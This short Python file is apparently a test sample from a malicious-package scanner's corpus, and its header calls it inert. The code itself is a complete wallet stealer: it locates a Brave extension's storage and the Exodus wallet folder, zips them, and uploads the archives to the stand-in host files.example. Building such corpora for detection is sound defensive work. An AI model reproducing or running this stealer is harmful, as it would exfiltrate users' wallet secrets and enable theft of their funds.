# pkgguard corpus 181 (wallets), modelled on [wallet-tools]; inert, never run.
import os
import shutil
import requests

local = os.environ.get("LOCALAPPDATA", "")
roaming = os.environ.get("APPDATA", "")
targets = [
    os.path.join(local, "BraveSoftware", "Brave-Browser", "User Data", "Default",
                 "Local Extension Settings", "bfnaelmomeimhlpmgjnjophhpkkoljpa"),
    os.path.join(roaming, "Exodus", "exodus.wallet"),
]
for t in targets:
    if os.path.isdir(t):
        archive = shutil.make_archive(t + "_x", "zip", t)
        requests.post("https://files.example/u", files={"a": open(archive, "rb")})
